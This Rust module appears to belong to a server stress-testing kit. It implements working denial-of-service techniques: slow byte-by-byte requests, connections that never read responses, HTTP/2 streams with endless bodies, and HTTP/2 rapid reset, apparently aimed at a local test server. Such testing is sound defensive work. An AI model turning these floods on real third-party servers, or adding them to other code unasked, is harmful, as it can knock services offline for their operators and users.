//! Attacks at the socket level: slow requests, responses that are never read, streams that never end. All of them are
//! bounded: everything stops when the attack is dropped, and each loop pauses.

use super::stage::Greed;
use crate::thin_client::status;
use anyhow::Result;
use bytes::Bytes;
use futures_util::future::join_all;
use http_body_util::StreamBody;
use hyper::body::Frame;
use hyper_util::rt::{TokioExecutor, TokioIo};
use reqwest::Method;
use serde_json::Value;
use std::convert::Infallible;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;
use tandem_testkit::Client;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

/// Pause between two attempts of one loop.
pub const PAUSE: Duration = Duration::from_millis(50);

pub async fn socket(from: IpAddr, to: SocketAddr) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    Ok(socket.connect(to).await?)
}

/// Runs this many endless loops concurrently, with a pause between iterations.
pub async fn loops<F: Future<Output = ()>>(count: usize, pause: Duration, each: impl Fn(usize) -> F) {
    let each = &each;
    join_all((0..count).map(|at| async move {
        loop {
            each(at).await;
            tokio::time::sleep(pause).await;
        }
    }))
    .await;
}

/// The same POST request for every loop.
pub fn posts(client: &Client, path: &str, body: Value) -> impl Fn(usize) -> reqwest::RequestBuilder + use<> {
    let (client, path) = (client.clone(), path.to_owned());
    move |_| client.request(Method::POST, &path).json(&body)
}

/// Well-formed requests, as fast as they are answered.
pub async fn calls(greed: Arc<Greed>, count: usize, ask: impl Fn(usize) -> reqwest::RequestBuilder) {
    let (greed, ask) = (&greed, &ask);
    loops(count, Duration::from_millis(5), |at| async move {
        match ask(at).send().await {
            Ok(answer) => {
                let status = answer.status().as_u16();
                greed.note(status);
                let text = answer.text().await.unwrap_or_default();
                if status != 200 {
                    greed.refused(&text);
                }
            }
            Err(_) => greed.note(0),
        }
    })
    .await;
}

/// Opens a connection and sends these bytes; notes a failure.
async fn said_over(greed: &Greed, from: IpAddr, said: &[u8]) -> Option<TcpStream> {
    let over = async {
        let mut wire = socket(from, greed.server).await?;
        wire.write_all(said).await?;
        anyhow::Ok(wire)
    };
    let wire = over.await.ok();
    if wire.is_none() {
        greed.note(0);
    }
    wire
}

/// Notes the status of the response; 0 if the server closed the connection.
fn note_read(greed: &Greed, read: std::io::Result<usize>, answer: &[u8]) {
    match read {
        Ok(read) if read > 12 => greed.note(status(answer).unwrap_or_default()),
        _ => greed.note(0),
    }
}

/// Each socket sends these bytes and waits for the response; reconnects when it is closed.
pub async fn says_and_waits(greed: Arc<Greed>, from: IpAddr, sockets: usize, said: Vec<u8>) {
    let (greed, said) = (&greed, &said);
    loops(sockets, PAUSE, |_| async move {
        let Some(mut wire) = said_over(greed, from, said).await else { return };
        let mut answer = [0; 1024];
        let read = wire.read(&mut answer).await;
        note_read(greed, read, &answer);
    })
    .await;
}

/// Each sends the beginning, then one byte at a time.
pub async fn trickles(greed: Arc<Greed>, from: IpAddr, sockets: usize, said: Vec<u8>) {
    let (greed, said) = (&greed, &said);
    loops(sockets, PAUSE, |_| async move {
        let Some(mut wire) = said_over(greed, from, said).await else { return };
        let mut answer = [0; 1024];
        loop {
            tokio::select! {
                read = wire.read(&mut answer) => return note_read(greed, read, &answer),
                () = tokio::time::sleep(Duration::from_millis(200)) => {
                    if wire.write_all(b"a").await.is_err() {
                        return greed.note(0);
                    }
                }
            }
        }
    })
    .await;
}

/// Each sends the same request many times and reads none of the responses.
pub async fn never_reads(greed: Arc<Greed>, from: IpAddr, sockets: usize, request: Vec<u8>, times: usize) {
    let (greed, request) = (&greed, &request);
    loops(sockets, PAUSE, |_| async move {
        let Ok(mut wire) = socket(from, greed.server).await else { return greed.note(0) };
        for _ in 0..times {
            // Once the TCP window is full, nothing more can be sent.
            let sent = tokio::time::timeout(Duration::from_secs(1), wire.write_all(request)).await;
            if !matches!(sent, Ok(Ok(()))) {
                break;
            }
        }
        tokio::time::sleep(Duration::from_secs(20)).await;
    })
    .await;
}

type EndlessBody = StreamBody<futures_util::stream::Pending<Result<Frame<Bytes>, Infallible>>>;

/// Opens the maximum of concurrent requests on each HTTP/2 connection and never sends their bodies; with `resets`, each
/// is reset at once and replaced by the next (rapid reset).
pub async fn streams(greed: Arc<Greed>, from: IpAddr, connections: usize, each: usize, resets: bool) {
    let greed = &greed;
    loops(connections, PAUSE, |_| async move {
        let Ok(wire) = socket(from, greed.server).await else { return greed.note(0) };
        let shaken = hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(wire)).await;
        let Ok((sender, connection)) = shaken else { return greed.note(0) };
        let asking = async {
            loops(each, PAUSE, |_| {
                let mut sender = sender.clone();
                async move {
                    let request = hyper::Request::post("http://acme.localhost/service1/orders/api/order/pu/pageList")
                        .header("content-type", "application/json")
                        .body(EndlessBody::new(futures_util::stream::pending()));
                    let Ok(request) = request else { return };
                    let patience = if resets { Duration::from_millis(1) } else { Duration::from_secs(60) };
                    match tokio::time::timeout(patience, sender.send_request(request)).await {
                        Ok(Ok(answer)) => greed.note(answer.status().as_u16()),
                        Ok(Err(_)) => greed.note(0),
                        Err(_) => {}
                    }
                }
            })
            .await;
        };
        tokio::select! {
            _ = connection => greed.note(0),
            () = asking => {}
        }
    })
    .await;
}
